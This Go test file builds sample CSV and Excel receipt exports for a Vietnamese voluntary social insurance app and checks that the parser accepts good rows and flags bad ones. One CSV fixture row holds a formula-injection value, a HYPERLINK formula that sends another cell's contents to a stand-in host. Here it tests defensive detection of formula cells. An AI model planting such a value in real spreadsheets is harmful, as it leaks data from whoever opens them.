package sheet_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"

	"bhxhdesk/app"
	"bhxhdesk/internal/fake"
	"bhxhdesk/sheet"
)

var update = flag.Bool("update", false, "rewrite the sample files in testdata/")

// The samples in testdata/ are small agent exports for end-to-end tests: a few good rows and
// one of each bad kind. vouchers-sample-people.json holds the TK1-TS registrations of everyone
// they name (start month 2025-09, income 1,500,000, ethnicity 01, support group "other"), so the good
// rows match their registrations and pay exactly the amount due.
const (
	sampleCSV    = "testdata/vouchers-sample.csv"
	sampleXLSX   = "testdata/vouchers-sample.xlsx"
	samplePeople = "testdata/vouchers-sample-people.json"
)

// The expected outcome of each data line of the samples (see outcome).
var (
	sampleCSVOutcome = map[int]string{
		3:  "ok",                                   // plain row
		4:  "ok",                                   // name typed decomposed (NFD): comes out NFC
		5:  "ok",                                   // 3 months; collector quoted over two lines (5–6)
		7:  "personal_id:bad_voucher_id",           // 13 digits: a typo in the ID
		8:  "personal_id:id_leading_zeros_lost",    // 11 digits: Excel dropped the leading 0
		9:  "full_name:formula_cell",               // =HYPERLINK(...) in the name
		10: "amount:bad_amount",                    // "264.00"
		11: "receipt_no:duplicate_receipt_in_file", // the receipt of line 3 again
		13: "ok",                                   // "264 000 đ", "5/9/2025", "T9/2025"
	}
	sampleXLSXOutcome = map[int]string{
		4:  "ok",                                   // typed cells: number amount, date cells
		5:  "ok",                                   // NFD name
		6:  "ok",                                   // 3 months
		7:  "personal_id:bad_voucher_id",           // 13 digits
		8:  "personal_id:id_leading_zeros_lost",    // the ID stored as a number cell
		9:  "amount:formula_cell",                  // =132000*2
		10: "amount:bad_amount",                    // "264.00"
		11: "receipt_no:duplicate_receipt_in_file", // the receipt of row 4 again
		13: "ok",                                   // text "05/09/2025", "T9/2025", "264.000 đ"
	}
)

// sampleForms are the registrations of the people in the samples: CSV rows use 0–8, XLSX rows
// 9–17; people 2 and 11 pay every 3 months.
func sampleForms(tb testing.TB) []app.RegistrationForm {
	tb.Helper()
	g := fake.New(2025, reference(tb).Places)
	g.StartMonth = "2025-09"
	forms := make([]app.RegistrationForm, 18)
	for i := range forms {
		f := g.Form()
		// Kinh (01) and group "other": everyone owes the same, 264,000 a month in 2025-09.
		f.Income, f.Method, f.SupportGroup, f.Ethnicity = "1500000", "monthly", "other", "01"
		if i == 2 || i == 11 {
			f.Method = "3-months"
		}
		forms[i] = f
	}
	return forms
}

// due is what the person's registration makes them pay for their first period.
func due(tb testing.TB, f app.RegistrationForm) app.Money {
	tb.Helper()
	r := reference(tb)
	v := app.NewValidator(r.Rules, r.Places, func() time.Time { return time.Date(2025, 9, 1, 9, 0, 0, 0, time.FixedZone("ICT", 7*3600)) })
	reg, err := v.Validate(f)
	require.NoError(tb, err, "sample registration of %s", f.FullName)
	q, err := r.Rules.Quote(app.QuoteRequest{Income: reg.Income, Method: reg.Method, Groups: reg.SupportGroups(), Month: reg.StartMonth})
	require.NoError(tb, err)
	return q.Payable
}

func writeSamples(t *testing.T) {
	forms := sampleForms(t)
	monthly, quarter := due(t, forms[0]), due(t, forms[2])
	grouped := func(m app.Money) string { return m.Grouped() }
	const collector = "Nguyễn Thị Lan - Đại lý thu xã Yên Định"

	c := func(s string) string {
		if strings.ContainsAny(s, "\",\n") {
			return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
		}
		return s
	}
	line := func(cells ...string) string {
		for i := range cells {
			cells[i] = c(cells[i])
		}
		return strings.Join(cells, ",") + "\r\n"
	}
	var b strings.Builder
	b.WriteString("\xEF\xBB\xBF")
	b.WriteString(line("BẢNG KÊ BIÊN LAI THU TIỀN ĐÓNG BHXH TỰ NGUYỆN - THÁNG 9/2025", "", "", "", "", "", "", ""))                 // 1
	b.WriteString(line("Số biên lai", "Số CCCD/ĐDCN", "Họ và tên", "Số tiền", "Ngày nộp", "Từ tháng", "Số tháng", "Nhân viên thu")) // 2
	b.WriteString(line("BL-2025-000101", forms[0].PersonalID, forms[0].FullName, grouped(monthly), "05/09/2025", "09/2025", "1", collector))
	b.WriteString(
		line(
			"BL-2025-000102",
			forms[1].PersonalID,
			norm.NFD.String(forms[1].FullName),
			strconv.FormatInt(int64(monthly), 10),
			"2025-09-05",
			"2025-09",
			"1",
			collector,
		),
	)
	b.WriteString(
		line("BL-2025-000103", forms[2].PersonalID, forms[2].FullName, grouped(quarter), "06/09/2025", "09/2025", "3", "Đại lý thu\nxã Yên Định"),
	) // 5–6
	b.WriteString(
		line("BL-2025-000104", forms[3].PersonalID+"7", forms[3].FullName, grouped(monthly), "06/09/2025", "09/2025", "1", collector),
	)
	b.WriteString(
		line(
			"BL-2025-000105",
			strings.TrimPrefix(forms[4].PersonalID, "0"),
			forms[4].FullName,
			grouped(monthly),
			"06/09/2025",
			"09/2025",
			"1",
			collector,
		),
	)
	b.WriteString(
		line(
			"BL-2025-000106",
			forms[5].PersonalID,
			`=HYPERLINK("http://example.invalid/?d="&C3,"Xem")`,
			grouped(monthly),
			"06/09/2025",
			"09/2025",
			"1",
			collector,
		),
	)
	b.WriteString(line("BL-2025-000107", forms[6].PersonalID, forms[6].FullName, "264.00", "06/09/2025", "09/2025", "1", collector))
	b.WriteString(line("BL-2025-000101", forms[7].PersonalID, forms[7].FullName, grouped(monthly), "07/09/2025", "09/2025", "1", collector))
	b.WriteString(line("", "", "", "", "", "", "", "")) // 12: blank
	b.WriteString(
		line(
			"BL-2025-000109",
			forms[8].PersonalID,
			forms[8].FullName,
			strings.ReplaceAll(grouped(monthly), ".", " ")+" đ",
			"5/9/2025",
			"T9/2025",
			"1",
			collector,
		),
	)
	require.NoError(t, os.MkdirAll("testdata", 0o755))
	require.NoError(t, os.WriteFile(sampleCSV, []byte(b.String()), 0o644))

	f := excelize.NewFile()
	defer func() { require.NoError(t, f.Close()) }()
	sh := "Bảng kê"
	require.NoError(t, f.SetSheetName(f.GetSheetName(0), sh))
	set := func(ref string, v any) { require.NoError(t, f.SetCellValue(sh, ref, v)) }
	set("A1", "BẢNG KÊ BIÊN LAI THU TIỀN ĐÓNG BHXH TỰ NGUYỆN - THÁNG 9/2025")
	require.NoError(t, f.MergeCell(sh, "A1", "I1"))
	require.NoError(
		t,
		f.SetSheetRow(
			sh,
			"A3",
			&[]any{"STT", "Số biên lai", "Số CCCD/ĐDCN", "Họ và tên", "Số tiền (đồng)", "Ngày nộp", "Từ tháng", "Số tháng", "Nhân viên thu"},
		),
	)
	dateStyle, err := f.NewStyle(&excelize.Style{NumFmt: 14})
	require.NoError(t, err)
	monthFmt := "mm/yyyy"
	monthStyle, err := f.NewStyle(&excelize.Style{CustomNumFmt: &monthFmt})
	require.NoError(t, err)
	textStyle, err := f.NewStyle(&excelize.Style{NumFmt: 49})
	require.NoError(t, err)
	row := func(n int, receipt string, who app.RegistrationForm, amount app.Money, months int) {
		r := strconv.Itoa(n)
		require.NoError(t, f.SetCellFormula(sh, "A"+r, "ROW()-3"))
		set("B"+r, receipt)
		require.NoError(t, f.SetCellStr(sh, "C"+r, who.PersonalID))
		require.NoError(t, f.SetCellStyle(sh, "C"+r, "C"+r, textStyle))
		set("D"+r, who.FullName)
		set("E"+r, int64(amount))
		set("F"+r, time.Date(2025, 9, 8, 0, 0, 0, 0, time.UTC))
		require.NoError(t, f.SetCellStyle(sh, "F"+r, "F"+r, dateStyle))
		set("G"+r, time.Date(2025, 9, 1, 0, 0, 0, 0, time.UTC))
		require.NoError(t, f.SetCellStyle(sh, "G"+r, "G"+r, monthStyle))
		set("H"+r, months)
		set("I"+r, collector)
	}
	row(4, "BL-2025-000201", forms[9], monthly, 1)
	nfd := forms[10]
	nfd.FullName = norm.NFD.String(nfd.FullName)
	row(5, "BL-2025-000202", nfd, monthly, 1)
	row(6, "BL-2025-000203", forms[11], quarter, 3)
	wrong := forms[12]
	wrong.PersonalID += "7"
	row(7, "BL-2025-000204", wrong, monthly, 1)
	row(8, "BL-2025-000205", forms[13], monthly, 1)
	n, err := strconv.ParseInt(forms[13].PersonalID, 10, 64)
	require.NoError(t, err)
	set("C8", n)
	row(9, "BL-2025-000206", forms[14], monthly, 1)
	require.NoError(t, f.SetCellFormula(sh, "E9", "132000*2"))
	row(10, "BL-2025-000207", forms[15], monthly, 1)
	set("E10", "264.00")
	row(11, "BL-2025-000201", forms[16], monthly, 1)
	row(13, "BL-2025-000209", forms[17], monthly, 1)
	set("E13", grouped(monthly)+" đ")
	set("F13", "05/09/2025")
	set("G13", "T9/2025")
	require.NoError(t, f.SetColWidth(sh, "B", "I", 18))
	require.NoError(t, f.SaveAs(sampleXLSX))

	people, err := json.MarshalIndent(forms, "", "  ")
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(samplePeople, append(people, '\n'), 0o644))
}

func TestSampleFiles(t *testing.T) {
	if *update {
		writeSamples(t)
	}
	var forms []app.RegistrationForm
	raw, err := os.ReadFile(samplePeople)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(raw, &forms))
	require.Len(t, forms, 18)
	byID := map[string]app.RegistrationForm{}
	for _, f := range forms {
		byID[f.PersonalID] = f
	}
	for _, tc := range []struct {
		file string
		want map[int]string
	}{{sampleCSV, sampleCSVOutcome}, {sampleXLSX, sampleXLSXOutcome}} {
		t.Run(filepath.Base(tc.file), func(t *testing.T) {
			data, err := os.ReadFile(tc.file)
			require.NoError(t, err)
			rows, problems, err := sheet.ReadVouchers(tc.file, bytes.NewReader(data))
			require.NoError(t, err)
			require.Equal(t, tc.want, outcome(t, rows, problems))
			for _, r := range rows {
				if tc.want[r.Line] != "ok" {
					continue
				}
				v, err := app.ParseVoucher(r.Input)
				require.NoError(t, err)
				f, ok := byID[v.PersonalID]
				require.True(t, ok, "line %d: the payer is registered in %s", r.Line, samplePeople)
				assert.Equal(t, f.FullName, v.FullName, "line %d", r.Line)
				assert.Equal(t, due(t, f), v.Amount, "line %d pays exactly what is due", r.Line)
				assert.Equal(t, f.StartMonth, v.FromMonth.String(), "line %d", r.Line)
			}
		})
	}
}

// The samples' amounts are the ones DESIGN §4 shows for September 2025 ("other" group,
// income 1,500,000): a guard that the rules behind them did not move.
func TestSampleAmounts(t *testing.T) {
	forms := sampleForms(t)
	assert.Equal(t, app.Money(264000), due(t, forms[0]))
	assert.Equal(t, app.Money(792000), due(t, forms[2]), "3 × 264,000")
}
